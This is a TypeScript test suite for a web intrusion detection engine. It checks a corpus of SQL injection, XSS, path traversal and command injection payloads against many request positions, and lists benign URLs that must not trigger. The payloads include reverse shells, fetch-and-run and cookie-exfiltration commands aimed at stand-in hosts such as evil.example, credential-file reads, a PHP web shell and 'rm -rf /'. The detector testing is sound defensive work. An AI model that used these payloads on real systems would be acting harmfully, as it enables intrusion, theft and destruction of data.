/**
 * The IDS engine against a corpus of attacks (each must be caught in every
 * position it is placed in) and of ordinary traffic (none may match), plus
 * custom rules, hostile input and bounded work on pathological input.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createIdsEngine, detectExpression, SEVERITY_SCORE, type IdsEngine, type IdsMatch } from '../../src/worker/ids/index.js';
import { detectCommand } from '../../src/worker/ids/command.js';
import { CleanHeaders } from '../../src/worker/ids/headers.js';
import { detectSqli } from '../../src/worker/ids/sqli.js';
import { decodePercent, detectTraversal } from '../../src/worker/ids/traversal.js';
import { detectXss } from '../../src/worker/ids/xss.js';

const BROWSER_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';

type Rule = 'sqli' | 'xss' | 'path-traversal' | 'command-injection';
type Position = 'query' | 'path' | 'user-agent' | 'referer' | 'cookie' | 'header' | 'form' | 'json' | 'text';

/** An attack: the text as a client sends it, or (encoded) already percent-encoded on the wire. */
interface Attack {
  readonly rule: Rule;
  readonly payload: string;
  readonly encoded?: boolean;
}

const sqli = (payload: string, encoded = false): Attack => ({ rule: 'sqli', payload, encoded });
const xss = (payload: string, encoded = false): Attack => ({ rule: 'xss', payload, encoded });
const traversal = (payload: string, encoded = false): Attack => ({ rule: 'path-traversal', payload, encoded });
const command = (payload: string, encoded = false): Attack => ({ rule: 'command-injection', payload, encoded });

const ATTACKS: readonly Attack[] = [
  // Tautologies after a broken-out string.
  sqli(`' OR '1'='1`),
  sqli(`' OR 1=1--`),
  sqli(`" OR "1"="1`),
  sqli(`' or ''='`),
  sqli(`'='`),
  sqli(`'-'`),
  sqli(`') OR ('a'='a`),
  sqli(`')) OR (('x'='x`),
  sqli(`1' AND 1=1--`),
  sqli(`1' && '1'='1`),
  sqli(`' OR 'x' LIKE 'x`),
  sqli(`x' AND email IS NULL; --`),
  sqli(`1' AnD 3=3 AnD 'a'='a`),
  sqli(`admin' OR 1=1 LIMIT 1--`),
  sqli(`1' AND CHAR(65)=CHAR(65)--`),
  sqli(`' AND SUBSTRING(@@version,1,1)='5`),
  // Comments that cut the query.
  sqli(`admin'--`),
  sqli(`admin' #`),
  sqli(`admin'/*`),
  sqli(`1 ORDER BY 3--`),
  sqli(`1' ORDER BY 10-- -`),
  sqli(`1' GROUP BY 1,2,3--+`),
  sqli(`' HAVING 1=1--`),
  // Numeric context.
  sqli(`1 OR 1=1`),
  sqli(`1 || 1=1`),
  sqli(`or 1=1--`),
  sqli(`1 OR 'a'='a'`),
  sqli(`1 AND (SELECT COUNT(*) FROM information_schema.tables)>0`),
  sqli(`1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64`),
  sqli(`1/**/OR/**/1=1`),
  // UNION.
  sqli(`' UNION SELECT NULL,NULL,NULL--`),
  sqli(`-1 UNION ALL SELECT 1,2,3`),
  sqli(`1 UNION SELECT username, password FROM users`),
  sqli(`' UNION SELECT @@version--`),
  sqli(`1 UnIoN SeLeCt 1,2`),
  sqli(`1/*!50000UNION*/ /*!50000SELECT*/ 1,2`),
  sqli(`1 un/**/ion sel/**/ect 1,2,3`),
  sqli(`') UNION SELECT table_name FROM information_schema.tables#`),
  sqli(`-1' UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns WHERE table_name='users'--+`),
  sqli(`' UNION SELECT LOAD_FILE('/etc/passwd')--`),
  // Stacked statements.
  sqli(`1; DROP TABLE users--`),
  sqli(`'; DROP TABLE accounts; --`),
  sqli(`1; EXEC xp_cmdshell('dir')`),
  sqli(`'; EXEC master..xp_cmdshell 'ping 127.0.0.1'--`),
  sqli(`1'; UPDATE users SET role='admin' WHERE name='bob'--`),
  sqli(`1; INSERT INTO users VALUES ('x','y')`),
  sqli(`'; SHUTDOWN--`),
  sqli(`1;SELECT PG_SLEEP(5)--`),
  // Time-based.
  sqli(`1 AND SLEEP(5)`),
  sqli(`1' AND SLEEP(5)#`),
  sqli(`1) OR SLEEP(5)--`),
  sqli(`1' WAITFOR DELAY '0:0:5'--`),
  sqli(`1; WAITFOR DELAY '00:00:10'`),
  sqli(`1 AND BENCHMARK(5000000,MD5(1))`),
  sqli(`' OR pg_sleep(5)--`),
  sqli(`1 RLIKE SLEEP(3)`),
  sqli(`0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z`),
  sqli(`1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)`),
  // Error-based.
  sqli(`1' AND EXTRACTVALUE(1, CONCAT(0x5c, (SELECT database())))--`),
  sqli(`1 AND UPDATEXML(1,CONCAT(0x7e,version()),1)`),
  sqli(`' AND 1=CONVERT(int, @@version)--`),
  sqli(`' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--`),
  sqli(`' AND 1=UTL_INADDR.GET_HOST_ADDRESS('x.example')--`),
  sqli(`1 AND @@version LIKE '%MariaDB%'`),
  // Concatenation and file access.
  sqli(`'+(SELECT 1 FROM dual WHERE 1=1)+'`),
  sqli(`'||(SELECT version())||'`),
  sqli(`1' INTO OUTFILE '/var/www/html/shell.php'--`),
  // Shapes that need more than keywords.
  sqli('1e0union select 1'),
  sqli(`'||'`),
  sqli(`'-''-'`),
  sqli(`' or ''-'`),
  sqli('1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1'),
  sqli('(select 1)'),
  sqli('1 regexp if(1=1,1,0x00)'),
  sqli('1` union select 1--'),
  sqli(`" or pg_sleep ( __TIME__ ) --`),
  sqli('1 where 1 = 1'),
  sqli(`1' where 1=1 --`),
  sqli(`insert into mysql.user (user, host) values ('x', 'y')`),
  sqli(`update users set password = 'x' where user = 'admin'`),
  sqli(`'; desc users; --`),
  sqli(`'; show tables; --`),
  sqli('CHAR(0x61)+CHAR(0x64)'),
  sqli('1 and true'),
  sqli(`; or '1'='1'`),
  sqli('AND 1 = utl_inaddr.get_host_address((SELECT banner FROM v$version WHERE rownum=1))'),
  // Issue 14: the gaps the corpus measurement found, each a shape rather than a string.
  sqli('x union select null'),
  sqli('x union all select password from users'),
  sqli('1 OR TRUE'),
  sqli(`x\\' or 1=1--`),
  sqli(`abc\\' UNION SELECT 1,2--`),
  sqli(`1WAITFOR DELAY '0:0:5'`),
  sqli('IIF(1=1,1,1/0)'),
  sqli('ELT(4271=4271,1)'),
  sqli('1=1 AND 2'),
  sqli(`1' ,(SELECT COUNT(*) FROM information_schema.columns A) -- x`),
  sqli(`1 (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))`),
  sqli(`SELECT 'a'||(CASE 1 WHEN 1 THEN 1 ELSE 0 END)||'b' FROM RDB$DATABASE`),
  sqli(`1;CALL REGEXP_SUBSTRING(REPEAT('a',500000000),NULL)`),
  sqli('1;IF(4271=4271) SELECT 4271'),
  sqli(`'hi' or 'x'='x';`),
  sqli(`1' ,(BEGIN IF (1=1) THEN DBMS_LOCK.SLEEP(5); END IF; END;) -- x`),
  // Encoded on the wire.
  sqli('%2527%2520OR%25201%253D1--', true),
  sqli('1%27%20or%20%271%27=%271', true),
  sqli('1%20UNION%0ASELECT%20NULL%2CNULL', true),

  xss('<script>alert(1)</script>'),
  xss('<ScRiPt>alert(document.cookie)</sCrIpT>'),
  xss('<script src=//evil.example/x.js></script>'),
  xss('"><script>alert(1)</script>'),
  xss(`'><svg onload=alert(1)>`),
  xss('<img src=x onerror=alert(1)>'),
  xss(`<IMG SRC=javascript:alert('XSS')>`),
  xss('<img src="jav&#x09;ascript:alert(1)">'),
  xss('<img src="jav\tascript:alert(1)">'),
  xss('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
  xss('<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'),
  xss('<a href="javascript&colon;alert(1)">x</a>'),
  xss('<svg/onload=alert(1)>'),
  xss('<body onload=alert(1)>'),
  xss('<iframe src="javascript:alert(1)"></iframe>'),
  xss('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
  xss('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
  xss('<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'),
  xss('<details open ontoggle=alert(1)>'),
  xss('<input autofocus onfocus=alert(1)>'),
  xss('<marquee onstart=alert(1)>x</marquee>'),
  xss('<video><source onerror="alert(1)"></video>'),
  xss('<div style="width: expression(alert(1))">'),
  xss('<div style="x:expr/**/ession(alert(1))">'),
  xss('<div style="background:url(javascript:alert(1))">'),
  xss(`<style>@import 'http://evil.example/x.css';</style>`),
  xss('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  xss('<base href="http://evil.example/">'),
  xss('<link rel=import href=http://evil.example/x.html>'),
  xss('<form action="javascript:alert(1)"><input type=submit>'),
  xss('<button formaction=javascript:alert(1)>x</button>'),
  xss('<math><maction xlink:href="javascript:alert(1)">x</maction></math>'),
  xss('<svg><animate onbegin=alert(1) attributeName=x dur=1s>'),
  xss('<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>'),
  xss('<table background="javascript:alert(1)">'),
  xss('<isindex action=javascript:alert(1) type=image>'),
  xss('<x onclick=alert(1)>click me'),
  xss(`<a href="#" onclick="fetch('//evil.example/?c='+document.cookie)">x</a>`),
  xss('<img src=1 onerror=alert(1)//'),
  xss('<svg><script xlink:href=data:,alert(1) />'),
  xss('<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
  xss('<img src=x:alert(alt) onerror=eval(src) alt=0>'),
  xss('</script><script>alert(1)</script>'),
  xss('</title><img src=x onerror=alert(1)>'),
  xss('<scr<script>ipt>alert(1)</scr</script>ipt>'),
  xss('<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
  xss('&lt;script&gt;alert(1)&lt;/script&gt;'),
  xss('\\x3cscript\\x3ealert(1)\\x3c/script\\x3e'),
  xss('javascript:alert(document.domain)'),
  xss('JaVaScRiPt:alert(1)'),
  xss(' javascript:alert(1)'),
  xss('java&#x09;script:alert(1)'),
  xss('jav\tascript:alert(1)'),
  xss('vbscript:msgbox("x")'),
  xss('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  xss('" onmouseover="alert(1)'),
  xss(`' onfocus='alert(1)' autofocus='`),
  xss('" autofocus onfocus=alert(1) x="'),
  xss(`';alert(String.fromCharCode(88,83,83))//`),
  xss('"-alert(1)-"'),
  xss('color:expression(alert(1))'),
  xss(
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  ),
  xss(`<BR SIZE="&{alert('XSS')}">`),
  xss(`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`),
  xss(`{{constructor.constructor('alert(1)')()}}`),
  xss('<a href="javascript&#x3A;alert(1)">x</a>'),
  xss('<svg><set attributeName=href to=javascript:alert(1) />'),
  xss('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  xss('<!--<img src="--><img src=x onerror=alert(1)//">'),
  xss('<img src=x onerror=alert`1`>'),
  xss(`'}alert(1);{'`),
  xss(
    String.raw`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
  ),
  xss('<a id=x tabindex=1 onfocusin=alert(1)></a>'),
  xss('<xss onafterscriptexecute=alert(1)><script>1</script>'),
  xss('&ltscript&gtalert(document.cookie);&lt/script&gt'),
  xss('<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
  xss('<object data="javascript:alert(1)"></object>'),
  xss('javascript%3A%2F%2F%250Aalert(1)', true),
  xss('%253Cscript%253Ealert(1)%253C%252Fscript%253E', true),
  xss('%3Csvg%0Aonload%3Dalert(1)%3E', true),

  traversal('../../../../etc/passwd'),
  traversal('..\\..\\..\\windows\\win.ini'),
  traversal('....//....//etc/hosts'),
  traversal('..././..././etc/passwd'),
  traversal('.../.../.../etc/passwd'),
  traversal('/etc/passwd'),
  traversal('/proc/self/environ'),
  traversal('c:\\windows\\win.ini'),
  traversal('C:/boot.ini'),
  traversal('file:///etc/passwd'),
  traversal('php://filter/convert.base64-encode/resource=index.php'),
  traversal('phar://uploads/avatar.jpg/shell'),
  traversal('expect://id'),
  traversal('..;/..;/WEB-INF/web.xml'),
  traversal('..'),
  traversal('../../../../../../var/log/apache2/access.log'),
  traversal('/../../../../home/user/.ssh/id_rsa'),
  traversal('..\\..\\..\\inetpub\\wwwroot\\web.config'),
  traversal('/var/www/../../etc/shadow'),
  traversal('\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd'),
  traversal('../../../../etc/passwd\0.png'),
  traversal('%2e%2e%2f%2e%2e%2fetc%2fpasswd', true),
  traversal('%252e%252e%252fetc%252fpasswd', true),
  traversal('..%2f..%2f..%2fetc%2fshadow', true),
  traversal('%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', true),
  traversal('..%c0%af..%c0%afetc/passwd', true),
  traversal('..%5c..%5cboot.ini', true),
  traversal('../../../etc/passwd%00.png', true),
  traversal('%2e%2e/%2e%2e/%2e%2e/etc/group', true),
  traversal('..%255c..%255c..%255cwindows%255csystem32%255cdrivers%255cetc%255chosts', true),
  traversal('%u002e%u002e%u2215etc%u2215passwd', true),
  traversal('index.php%00', true),
  traversal('%2e%2e%5c%2e%2e%5cwindows%5cwin.ini', true),
  traversal('.%2e/.%2e/.%2e/etc/passwd', true),
  traversal('%e0%80%ae%e0%80%ae/etc/passwd', true),
  traversal('..%c1%9c..%c1%9cboot.ini', true),
  traversal('%%32%65%%32%65/etc/passwd', true),
  traversal('/usr/local/apache/conf/httpd.conf'),
  traversal('/etc/./passwd'),
  traversal('~/.ssh/id_rsa'),
  traversal('..\\/..\\/etc/passwd'),
  traversal('/..;/admin'),
  traversal('\\\\localhost\\c$\\windows\\win.ini'),

  command('; cat /etc/passwd'),
  command('| id'),
  command('&& whoami'),
  command('|| uname -a'),
  command('`uname -a`'),
  command('$(curl http://evil.example/x.sh)'),
  command(';cat${IFS}/etc/passwd'),
  command(';uname$IFS-a'),
  command('127.0.0.1; ls -la'),
  command('127.0.0.1 && cat /etc/shadow'),
  command('127.0.0.1|whoami'),
  command('; nc -e /bin/sh 10.0.0.1 4444'),
  command('| nc attacker.example 4444 -e /bin/bash'),
  command('; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'),
  command('; wget http://evil.example/a.sh -O /tmp/a.sh'),
  command('wget http://evil.example/a.sh|sh'),
  command('; curl -s http://evil.example/x | bash'),
  command('; sleep 5'),
  command('| sleep 10'),
  command('$(sleep 5)'),
  command('`sleep 5`'),
  command('& ping -c 10 127.0.0.1 &'),
  command('; ping -n 5 127.0.0.1'),
  command(";c'a't /etc/passwd"),
  command(';c\\at /etc/passwd'),
  command(';/???/c?t /etc/passwd'),
  command(';{cat,/etc/passwd}'),
  command('() { :; }; /bin/bash -c "cat /etc/passwd"'),
  command('() { :;}; echo vulnerable'),
  command('& type C:\\Windows\\win.ini'),
  command('| dir c:\\'),
  command('& net user'),
  command('&& ipconfig /all'),
  command(`; python -c 'import socket,os'`),
  command(`; perl -e 'print 1'`),
  command(`| powershell -nop -c "iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')"`),
  command('& cmd /c whoami'),
  command(`;system('id')`),
  command('$(nslookup $(whoami).evil.example)'),
  command('1;echo hacked > /tmp/pwned'),
  command('; ps aux'),
  command(';/bin/sh'),
  command('| /usr/bin/id'),
  command(";w'h'o'a'm'i"),
  command('&& certutil -urlcache -split -f http://evil.example/a.exe a.exe'),
  command('; rm -rf /'),
  command(`; php -r 'system("id");'`),
  command('${jndi:ldap://evil.example/a}'),
  command('${${lower:j}ndi:${lower:l}dap://evil.example/a}'),
  command('<!--#exec cmd="id"-->'),
  command(';echo XYZ$((7*7))XYZ'),
  command('|id|'),
  command(';wh$()oami'),
  command('& echo vulnerable &'),
  command(`<?php system($_GET['cmd']); ?>`),
  command('${@system("id")}'),
  command(';find / -name "*.conf"'),
  command(';useradd hacker'),
  command(`';exit(md5('probe'));//`),
  command(`".system('id');#`),
  command('data:;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=='),
  command(`require('node:child_process').exec('id')`),
  command('x%0aid', true),
  command('%0Acat%20/etc/passwd', true),
  command('%0a/bin/cat%20/etc/passwd', true),
  command('a%3Bid%3B', true),
  command('%26%26%20whoami', true),
];

const ALL_POSITIONS: readonly Position[] = ['path', 'user-agent', 'header', 'referer', 'cookie', 'form', 'json', 'text'];
/** Positions where a percent-encoded payload arrives encoded and is decoded by the engine. */
const ENCODED_POSITIONS: readonly Position[] = ['path', 'referer', 'header', 'cookie', 'form'];

function hasControl(s: string): boolean {
  return /[\x00-\x1f\x7f]/.test(s);
}

/** Where each attack is placed: the query always, and two more positions in rotation. */
function positionsFor(attack: Attack, index: number): Position[] {
  const pool =
    attack.encoded === true
      ? ENCODED_POSITIONS
      : ALL_POSITIONS.filter((p) => !(hasControl(attack.payload) && (p === 'user-agent' || p === 'text')));
  // Every attack in an arbitrary header too (issue 14: not only the headers applications are known to copy).
  const header: Position[] = attack.encoded === true || !hasControl(attack.payload) ? ['header'] : [];
  const chosen: Position[] = ['query', ...header, pool[index % pool.length]!, pool[(index + 3) % pool.length]!];
  return chosen.filter((p, i) => chosen.indexOf(p) === i);
}

function wire(attack: Attack): string {
  return attack.encoded === true ? attack.payload : encodeURIComponent(attack.payload);
}

function inspectAt(engine: IdsEngine, position: Position, attack: Attack): IdsMatch[] {
  const onWire = wire(attack);
  const headers = { host: 'shop.example', 'user-agent': BROWSER_UA, accept: 'text/html' };
  switch (position) {
    case 'query':
      return engine.inspectRequest(`/search?page=2&q=${onWire}&lang=en`, headers);
    case 'path':
      return engine.inspectRequest(`/products/${onWire}`, headers);
    case 'user-agent':
      return engine.inspectRequest('/index.html', { ...headers, 'user-agent': attack.payload });
    case 'referer':
      return engine.inspectRequest('/index.html', { ...headers, referer: `https://shop.example/search?q=${onWire}` });
    case 'cookie':
      return engine.inspectRequest('/index.html', { ...headers, cookie: `session=4f2a9c1e; pref=${onWire}` });
    case 'header':
      return engine.inspectRequest('/index.html', { ...headers, 'x-note': attack.encoded === true ? attack.payload : attack.payload });
    case 'form':
      return engine.inspectBody(Buffer.from(`name=alice&comment=${onWire}`), 'application/x-www-form-urlencoded');
    case 'json':
      return engine.inspectBody(
        Buffer.from(JSON.stringify({ user: 'alice', comment: attack.payload, tags: ['a'] })),
        'application/json; charset=utf-8',
      );
    case 'text':
      return engine.inspectBody(Buffer.from(attack.payload), 'text/plain');
  }
}

function expectedLocation(position: Position): string {
  switch (position) {
    case 'path':
      return 'path';
    case 'query':
      return 'query';
    case 'form':
    case 'json':
    case 'text':
      return 'body';
    case 'header':
      return 'header:x-note';
    default:
      return `header:${position}`;
  }
}

const engine = createIdsEngine([]);

describe('attacks are detected in every position', () => {
  ATTACKS.forEach((attack, index) => {
    for (const position of positionsFor(attack, index)) {
      it(`${attack.rule} in ${position}: ${JSON.stringify(attack.payload)}`, () => {
        const matches = inspectAt(engine, position, attack);
        const match = matches.find((m) => m.rule === attack.rule);
        assert.ok(match, `not detected; got ${JSON.stringify(matches)}`);
        assert.equal(match.location, expectedLocation(position));
        assert.equal(match.action, 'block');
      });
    }
  });
});

/** Ordinary requests: request-targets as browsers and API clients send them. */
const BENIGN_URLS: readonly string[] = [
  '/',
  '/index.html',
  '/about-us',
  '/docs/README.md',
  '/blog/2024/01/a-post.md',
  '/wiki/C++',
  '/wiki/C%2B%2B',
  '/files/report..final.pdf',
  '/static/js/app.3f2a1b.min.js',
  '/images/photo_2024-01-05.jpg',
  '/~alice/papers/thesis.pdf',
  '/api/v1/users/550e8400-e29b-41d4-a716-446655440000',
  '/shop/item;jsessionid=0AAB6C8DE415',
  '/docs/api/v2/index.html',
  '/search?q=select+the+best+union+jobs',
  '/search?q=drop+me+a+line',
  '/search?q=1%20and%202',
  '/search?q=rock+%26+roll',
  '/search?q=Tom+%26+Jerry',
  '/search?q=C%23+or+F%23',
  '/sale?banner=50%25+off',
  '/search?q=O%27Reilly',
  '/authors?name=D%27Angelo',
  '/search?q=how+to+use+select+in+sql',
  '/list?sort=name+desc',
  '/run?cmd=ls',
  '/notes?text=a%3B+b',
  '/login?next=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc',
  '/login?next=https://example.com/a?b=c',
  '/track?email=john.doe%40example.com',
  '/search?q=I+%3C3+you',
  '/math?q=a+%3C+b+%3E+c',
  '/comment?body=%3Cb%3Ebold%3C%2Fb%3E',
  '/comment?body=%3Cp%3EHello%2C+%3Ci%3Eworld%3C%2Fi%3E%3C%2Fp%3E',
  '/p?token=dGhpcyBpcyBhIHRlc3QgdG9rZW4%3D',
  '/events?from=2024-01-01&to=2024-12-31',
  '/events?date=2024-01-05T10%3A30%3A00Z',
  '/page?id=42&lang=en-US',
  '/search?q=where+is+the+nearest+cafe%3F',
  "/search?q=what's+new",
  '/products?category=shoes&size=10.5&color=red',
  '/items?ids=1,2,3,4',
  '/search?q=%22exact+phrase%22',
  '/search?q=union+station+parking',
  '/search?q=order+by+phone',
  '/search?q=group+by+age',
  '/search?q=sleep+apnea+treatment',
  '/search?q=benchmark+results+2024',
  '/forum?q=why+is+my+cat+sleeping',
  '/search?q=and+or+not',
  '/search?q=1+or+2',
  '/search?q=best+%26+worst',
  '/filter?price=%3E100',
  '/search?q=javascript+tutorial',
  '/search?q=learn+javascript%3A+the+good+parts',
  '/search?q=50%25',
  '/search?q=100%25+cotton',
  '/recipes?q=salt+%26+pepper',
  '/search?q=AT%26T',
  '/search?q=R%26D+budget',
  '/search?q=Q%26A',
  '/search?q=the+ls+command',
  '/search?q=cat+food',
  '/search?q=ping+pong+table',
  '/search?q=%40username',
  '/search?q=email+me+at+bob%40example.com',
  '/redirect?url=%2Fdashboard%3Ftab%3Dsettings',
  '/graphql?query=%7Buser(id%3A%201)%20%7Bname%7D%7D',
  '/search?q=%E2%9C%93+done',
  '/search?q=caf%C3%A9+cr%C3%A8me',
  '/download?file=report-2024.pdf',
  '/download?file=my.report.v2.final.docx',
  '/api/items?filter[name]=foo&filter[age][gt]=30',
  '/search?q=you+%26+me+%3B+forever',
  '/search?q=-1',
  '/search?q=%2B1+555+0100',
  '/search?q=5%27+10%22',
  "/search?q=it's+a+'test'",
  '/wp-json/wp/v2/posts?per_page=10&orderby=date&order=desc',
  '/maps?bbox=-122.5,37.7,-122.3,37.8',
  '/geo?wkt=POLYGON((30+10,40+40,20+40,10+20,30+10))',
  '/search?q=select+*+from+menu',
  '/search?q=Ready%3B+set%3B+go',
  '/search?q=tired%3B+sleep+8+hours',
  '/search?q=dogs%3B+cat+lovers',
  '/search?q=python+%26+php+8.2',
  '/search?q=hello+world!+%3A-)',
  '/search?q=x%3D1+and+y%3D2',
  '/search?q=Rock+%27n%27+Roll',
  "/search?q=don't+stop+--+believin'",
  '/search?q=%23hashtag+%23another',
  '/search?q=50%25+off+%7C+free+shipping',
  '/search?q=Wait...+what%3F',
  '/search?q=cd+player',
  '/search?q=who+am+i',
  '/search?q=id+card+renewal',
  '/search?q=Bring+passport+%26+ID',
  '/search?q=price+%3C%3D+100+and+rating+%3E%3D+4',
  '/search?q=if+(a+%3E+b)+return',
  '/search?q=(555)+010-0199',
  '/calendar?month=2024-02&view=week',
  '/search?q=%E4%BD%A0%E5%A5%BD%E4%B8%96%E7%95%8C',
  '/search?q=Caf%C3%A9+%26+Bar;+open+late',
  '/unsubscribe?email=a.b%2Btag%40example.co.uk&sig=3f9a0c',
  '/search?q=%25',
  '/oauth/callback?code=4%2F0AeaYSHB3x_Zy-9QkP&state=xyz%3D%3D&scope=email+profile',
  '/search?q=1%2F2+cup+sugar',
  '/v?u=not-a-dir..txt',
  '/search?q=etc.+and+so+on',
  '/search?q=the+proc+of+self+esteem',
  '/search?q=windows+11+system32+folder',
  '/search?q=%24100+gift+card',
  '/search?q=eval+function+in+excel',
  '/search?q=alert+me+when+price+drops',
  '/search?q=onload+event+explained',
  '/search?q=script+writing+tips',
  '/search?q=SELECT+committee+report',
  '/search?q=insert+into+the+slot',
  '/search?q=update+your+profile',
  '/search?q=1+union+street',
  '/tienda1/publico/anadir.jsp?id=2&nombre=Jam%F3n+Ib%E9rico&precio=85&cantidad=49&B1=A%F1adir+al+carrito',
  '/tienda1/publico/registro.jsp?modo=registro&login=ramos&password=camale%F3nico&email=elisa%40maestra.com.gr&direccion=Plaza+Real+91%2C+8%3FB&cp=01340&B1=Registrar',
  '/tienda1/miembros/editar.jsp?modo=registro&direccion=C%2F+Pez+Austral%2C+35+10%3FE&ciudad=Sevilla',
  '/search?q=O%27Brien+and+O%27Neil',
  "/search?q=D'Arcy+or+D'Souza",
  "/search?q=Tom's+and+Jerry's",
  "/search?q=5'+or+6'",
  "/search?q=Guns+N'+Roses",
  "/search?q='hello'+or+'world'",
  "/search?q=I'm+5'10%22+and+180+lbs",
  '/search?q=He+said+%22yes%22+or+%22no%22',
  '/search?q=x+%3D+y+or+z+%3D+w',
  '/search?q=true+or+false',
  '/search?q=SELECT+*+FROM+users',
  '/search?q=(select+one)',
  '/search?q=--help',
  '/search?q=4+%3E+3+and+2+%3C+5',
  '/search?q=Press+%3CEnter%3E+to+continue',
  '/search?q=%3CObject+Oriented+Programming%3E',
  '/search?q=mailto%3Abob%40example.com',
  '/search?q=...',
  '/files/..hidden',
  '/search?q=Tom+%26+Jerry%3B+cat+videos',
  '/search?q=tired%3B+sleep',
  '/search?q=%24(document).ready',
  '/search?q=%24%7Bname%7D',
  '/search?q=C%3A%5CUsers%5Cbob%5CDocuments',
  '/search?q=Step+1%3B+ls+the+files',
  '/search?q=wget+vs+curl',
  '/search?q=python+-m+venv',
  '/search?q=rm+-rf+explained',
  '/search?q=~%2F.bashrc',
  '/docs/windows/install',
  '/products/system-32gb',
  '/api/v2/files?path=%2Fhome%2Falice%2Fdocs%2Freport.pdf',
  '/img/proc/self-portrait.jpg',
  '/search?q=%E2%80%9Csmart+quotes%E2%80%9D',
  '/search?q=user%40%40domain',
  '/search?q=Order+%231234+--+shipped',
  '/search?q=I%27m+having+fun',
  '/search?q=drop+table+tennis',
  '/search?q=exec+summary',
  '/search?q=sleep+(deep)',
  '/search?q=count(3)',
  '/search?q=%3Ca+href%3D%22%2Fpage%22%3Elink%3C%2Fa%3E',
  '/search?q=%3Cimg+src%3D%22cat.png%22+alt%3D%22cat%22%3E',
  '/search?q=style%3D%22color%3Ared%22',
  '/search?q=online%3Dtrue',
  '/search?q=javascript%3A+the+good+parts+(2008)',
  '/search?q=title:%22foo+bar%22+AND+author:smith',
  "/odata/Products?$filter=Price+gt+5+and+Name+eq+'Milk'&$orderby=Name+desc&$top=10",
  '/index.php?option=com_content&view=article&id=12:title&catid=3:news&Itemid=5',
  '/wp-content/themes/twentytwenty/style.css?ver=5.2.1',
  '/page?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale&fbclid=IwAR3xYz-AbC_123',
  '/page?callback=jQuery1234567_1700000000&_=1700000000',
  '/issues?q=is:open+label:bug+sort:created-desc',
  '/wiki/Rock_%26_Roll',
  '/wiki/Don%27t_Stop_Me_Now',
  '/wiki/Special:Search?search=union+select',
  '/wiki/Script_(Unicode)',
  '/wiki/Javascript:_The_Good_Parts',
  '/search?q=A+%26%26+B',
  '/search?q=order+66',
];

const BENIGN_USER_AGENTS: readonly string[] = [
  BROWSER_UA,
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)',
  'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko',
  'Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K) AppleWebkit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30',
  'Dalvik/2.1.0 (Linux; U; Android 11; SM-G991B Build/RP1A.200720.012)',
  'curl/8.5.0',
  'Wget/1.21.4',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'PostmanRuntime/7.36.0',
  'okhttp/4.12.0',
  'axios/1.6.2',
  'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)',
  'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
  'Apache-HttpClient/4.5.14 (Java/17.0.2)',
